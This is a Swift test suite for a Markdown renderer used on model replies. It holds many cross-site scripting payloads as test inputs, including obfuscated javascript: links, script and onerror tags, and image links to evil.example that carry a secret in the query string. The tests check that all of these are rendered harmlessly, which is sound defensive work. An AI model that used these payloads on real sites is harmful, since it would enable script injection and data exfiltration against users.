import HTMLTestSupport
import SeededRandom
import Testing

@testable import Web

/// The reply of a model is written by whoever wrote what the model has read.
@Suite struct MarkdownSafetyTests {
    @Test(arguments: [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))", "[x](java&#10;script:alert(1))", "[x](<java\tscript:alert(1)>)",
        "[x](\u{1}javascript:alert(1))", "[x](&Tab;javascript:alert(1))", "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)",
        "[x](//example.org)", "[x](/admin/people)", "[x](?sign-out)", "[x](blob:https://example.org/1)",
        "[x](https&#58;//ok.example \"javascript:\")", "<javascript:alert(1)>", "<data:text/html,x>",
        "[x]: javascript:alert(1)\n\n[x]", "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)", "http://..", "<https://>", "[x](http://)", "[x](mailto:)",
    ])
    func addressThatIsNotOfTheWebIsNoLink(_ source: String) throws {
        let html = Markdown.render(source).html
        try HTMLOracle.check(html)
        #expect(!html.lowercased().contains("href=\"javascript") && !html.contains("href=\"/"))
    }

    @Test(arguments: [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "a <b onmouseover=alert(1)>c</b>", "<iframe src=https://example.org></iframe>", "<!-- x --><style>*{}</style>",
        "<a href='javascript:alert(1)'>x</a>", "<math><mtext></p><script>alert(1)</script>", "<![CDATA[<b>]]>",
        "<?php echo 1 ?>", "&lt;script&gt;alert(1)&lt;/script&gt;", "`<script>`", "    <script>alert(1)</script>",
        "```html\n<script>alert(1)</script>\n```", "```\"><script>\nx\n```", "| <script> | b |\n|--|--|\n| <img> | ' |",
        "[<img src=x onerror=alert(1)>](https://example.org)", "![<script>](https://example.org/\"><script>)",
        "[a](https://example.org/\" onclick=\"alert(1))", "[a](https://example.org/'onclick='alert(1))",
        "https://example.org/\"onmouseover=\"alert(1)", "<https://example.org/\"><script>alert(1)</script>>",
        "- [x] <script>\n> <script>\n# <script>", "**<script>** ~~<img src=x>~~", "\u{0}<scr\u{0}ipt>",
    ])
    func markupFromOutsideIsShownAsTheTextItIs(_ source: String) throws {
        let html = Markdown.render(source).html
        try HTMLOracle.check(html)
        #expect(!html.contains("<script") && !html.contains("<img") && !html.contains("<svg"))
    }

    @Test(arguments: [
        "![](https://evil.example/?q=secret)", "![a][b]\n\n[b]: https://evil.example/?q=secret",
        "[![](https://evil.example/p.png)](https://evil.example)", "<img src=\"https://evil.example\">",
        "![a ![b](https://evil.example/1)](https://evil.example/2)",
    ])
    func imageIsNeverLoaded(_ source: String) throws {
        let html = Markdown.render(source).html
        try HTMLOracle.check(html)
        #expect(!html.contains("<img") && !html.contains(" src=\""))
    }

    /// Pieces of Markdown in random order: whatever they add up to, only tags of ours come out.
    @Test(arguments: 0..<40)
    func anyTextGivesOnlyAllowedTagsAndAttributes(seed: UInt64) throws {
        var generator = SeededGenerator(seed: seed)
        for _ in 0..<50 {
            let source = (0..<Int.random(in: 1...40, using: &generator)).map { _ in
                Self.pieces.randomElement(using: &generator)!
            }.joined()
            let rendering = Markdown.render(source, maxOutputBytes: Int.random(in: 20...4000, using: &generator))
            for block in rendering.blocks {
                #expect(throws: Never.self, "\(source.debugDescription)") { try HTMLOracle.check(block) }
            }
        }
    }

    private static let pieces = [
        "*", "**", "_", "~~", "`", "```", "~~~", "\n", "\n\n", "    ", "- ", "1. ", "> ", "# ", "|", "|--|--|\n", "[",
        "](", ")", "![", "]: ", "<", ">", "&", "&amp;", "&#60;", "&#x22;", "\"", "'", "\\", "javascript:",
        "https://a.b/",
        "data:", "www.a.b", "a@b.co", "<script>", "</p>", "<!--", "-->", "<img src=x onerror=y>", "- [x] ", "html",
        "diff",
        "word", " ", "\t", "\u{0}", "é", "日本", "🙂", "\u{202E}", "---\n", "+a\n", "$", "${", "=", "{\"k\": 1}", "/*",
        "--",
    ]
}
